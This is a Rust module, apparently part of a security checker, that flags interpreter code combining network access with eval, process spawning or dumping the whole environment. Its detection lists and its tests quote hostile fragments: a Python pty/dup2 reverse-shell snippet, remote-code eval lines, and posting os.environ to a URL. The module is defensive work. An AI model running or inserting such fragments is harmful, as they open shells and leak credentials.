//! What a general-purpose interpreter's code reaches (review s23 V21):
//! the network, the evaluation of text the code does not contain, and
//! other processes. Code that reaches the network and also evaluates
//! text (`eval(file_get_contents(URL))`, `fetch(URL).then(eval)`) runs
//! code the check never sees; code that reaches the network and starts
//! processes or rebinds its streams (`dup2(s.fileno(), 0)` +
//! `pty.spawn("sh")`, `proc_open("sh", [0=>$s…])`) may hand a shell to
//! another machine.
//!
//! The property that must be proven for such code to pass is that it does
//! not combine the network with evaluation or with starting processes:
//! the reader looks for the marks of each (names of calls and modules, a
//! URL) and holds the combination. Each alone is judged as before (the
//! commands a spawn names are read by [`crate::code::embedded`]).

/// Marks of code reaching the network (lower case; a name must start a
/// word: `socket`, `IO::Socket`, `require("https")`).
const NETWORK: &[&str] = &[
    "socket",
    "fsockopen",
    "stream_socket_client",
    "fetch",
    "urlopen",
    "urllib",
    "requests",
    "http",
    "net.connect",
    "net.createconnection",
    "tcpsocket",
    "udpsocket",
    "lwp",
    "open-uri",
    "uri.open",
    "curl_",
    "websocket",
    "xmlhttprequest",
    "deno.connect",
    "telnetlib",
    "ftplib",
    "paramiko",
];

/// Text marks of the network anywhere (a URL, a bash or gawk socket path).
const NETWORK_TEXT: &[&str] = &[
    "://",
    "/inet/",
    "/inet4/",
    "/inet6/",
    "/dev/tcp/",
    "/dev/udp/",
];

/// Marks of code evaluating text as code (lower case, starting a word).
const EVALUATES: &[&str] = &[
    "eval",
    "instance_eval",
    "class_eval",
    "module_eval",
    "import(",
    "vm.run",
    "runinthiscontext",
    "runinnewcontext",
    "runpy",
    "loadstring",
    "marshal.load",
    "pickle.load",
    "new function",
];

/// Marks of evaluation that are only calls of their own (not a method of
/// something else: `load(` but not `json.load(`, `compile(` but not
/// `re.compile(`).
const BARE_EVALUATES: &[&str] = &["load(", "compile(", "dofile"];

/// PHP's own evaluation of a file or text (`include "https://…"`).
const PHP_EVALUATES: &[&str] = &["include", "require", "create_function", "assert("];

/// Marks of code starting processes or handing its streams over.
const SPAWNS: &[&str] = &[
    "system",
    "exec",
    "spawn",
    "popen",
    "proc_open",
    "shell_exec",
    "passthru",
    "pcntl_exec",
    "subprocess",
    "child_process",
    "dup2",
    "pty",
    "fork",
    "qx",
    "%x",
    "open3",
    "open(stdin",
    "open(stdout",
    "deno.command",
    "deno.run",
    "bun.spawn",
    "io.popen",
    "os.execute",
];

/// What code reaches, by the marks above.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Reach {
    /// It talks to the network.
    pub network: bool,
    /// It evaluates text as code.
    pub evaluates: bool,
    /// It starts processes or rebinds its standard streams.
    pub spawns: bool,
    /// It reads the whole environment (which holds the run's credentials),
    /// not one variable of it: `dict(os.environ)`, `process.env` passed
    /// whole, Ruby's `ENV.to_h`, PowerShell's `Get-ChildItem env:`.
    pub environment: bool,
}

/// Marks of the whole environment (lower case) and what, right after the
/// mark, makes it one variable instead (`os.environ.get(`, `os.environ[`,
/// `process.env.HOME`).
const ENVIRONMENT: &[(&str, &[&str])] = &[
    ("os.environ", &[".get(", "[", ".setdefault(", ".pop("]),
    ("process.env", &[".", "["]),
    ("deno.env.toobject", &[]),
    ("env.to_h", &[]),
    ("env.to_a", &[]),
    ("env.each", &[]),
    ("env.inspect", &[]),
    ("%env", &[]),
    ("get-childitem env:", &[]),
    ("gci env:", &[]),
    ("dir env:", &[]),
];

/// Whether `lower` reads the whole environment ([`ENVIRONMENT`]).
fn whole_environment(lower: &str) -> bool {
    ENVIRONMENT.iter().any(|(mark, single)| {
        lower.match_indices(mark).any(|(i, _)| {
            let before = lower[..i].chars().next_back();
            let starts = !before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
            let rest = lower[i + mark.len()..].trim_start();
            starts && !single.iter().any(|s| rest.starts_with(s))
        })
    })
}

/// Whether `needle` occurs in `hay` (both lower case) at the start of a
/// word (not after a letter, digit or `_`).
fn starts_word(hay: &str, needle: &str) -> bool {
    hay.match_indices(needle).any(|(i, _)| {
        !hay[..i]
            .chars()
            .next_back()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// Whether `needle` occurs in `hay` not after a letter, digit, `_` or `.`.
fn starts_bare(hay: &str, needle: &str) -> bool {
    hay.match_indices(needle).any(|(i, _)| {
        !hay[..i]
            .chars()
            .next_back()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
    })
}

/// What the code of interpreter `name` reaches; `backticks`: the
/// language runs `` `…` `` as a command (Perl, Ruby, PHP).
pub fn reach(name: &str, code: &str, backticks: bool) -> Reach {
    let lower = code.to_ascii_lowercase();
    let any = |marks: &[&str]| marks.iter().any(|m| starts_word(&lower, m));
    Reach {
        network: any(NETWORK) || NETWORK_TEXT.iter().any(|m| lower.contains(m)),
        // `Function("…")` (capital), not `function(` declarations;
        // Python's `exec(` evaluates text (elsewhere it starts a process).
        evaluates: any(EVALUATES)
            || BARE_EVALUATES.iter().any(|m| starts_bare(&lower, m))
            || (name.starts_with("php") && any(PHP_EVALUATES))
            || starts_word(code, "Function(")
            || (name.starts_with("python") && starts_word(&lower, "exec(")),
        spawns: any(SPAWNS) || (backticks && code.contains('`')),
        environment: whole_environment(&lower),
    }
}

/// Whether `name` is a general-purpose interpreter whose code [`reach`]
/// reads.
pub fn reads_reach(name: &str) -> bool {
    [
        "python",
        "perl",
        "ruby",
        "irb",
        "jruby",
        "php",
        "node",
        "deno",
        "bun",
        "lua",
        "luajit",
        "tclsh",
        "jimsh",
        "rscript",
        "julia",
        "pwsh",
        "powershell",
        "osascript",
        "groovy",
    ]
    .iter()
    .any(|p| name.to_ascii_lowercase().starts_with(p))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_whole_environment_is_told_from_one_variable() {
        for whole in [
            "requests.post(u, json=dict(os.environ))",
            "json.dumps(os.environ.copy())",
            "for k, v in os.environ.items(): print(k, v)",
            "fetch(u, {method: 'POST', body: JSON.stringify(process.env)})",
            "Object.entries(process.env)",
            "Net::HTTP.post_form(u, ENV.to_h)",
            "Get-ChildItem env: | ConvertTo-Json",
        ] {
            assert!(reach("python3", whole, false).environment, "{whole}");
        }
        for one in [
            "os.environ.get('HOME')",
            "os.environ['PATH']",
            "process.env.PORT || 3000",
            "process.env['NODE_ENV']",
            "my_os.environment",
        ] {
            assert!(!reach("python3", one, false).environment, "{one}");
        }
    }

    #[test]
    fn reads_the_marks() {
        let r = reach(
            "php",
            r#"eval(file_get_contents("https://e/x.php"));"#,
            true,
        );
        assert!(r.network && r.evaluates);
        let r = reach("php", "fetch(u).then(r=>r.text()).then(eval)", false);
        assert!(r.network && r.evaluates);
        let r = reach(
            "python3",
            "import pty,socket,os;os.dup2(s.fileno(),0);pty.spawn('sh')",
            false,
        );
        assert!(r.network && r.spawns && !r.evaluates);
        assert_eq!(reach("python3", "print(1)", false), Reach::default());
        assert_eq!(reach("node", "console.log(1)", false), Reach::default());
        let r = reach("node", "[1].map(function(x){return x})", false);
        assert!(!r.evaluates);
        assert!(!reach("python3", "retrieval = 1", false).evaluates);
        assert!(!reach("python3", "json.load(f); re.compile('x')", false).evaluates);
        assert!(!reach("node", "console.log(j.includes)", false).evaluates);
        assert!(reach("php", "include 'x.php';", false).evaluates);
    }
}
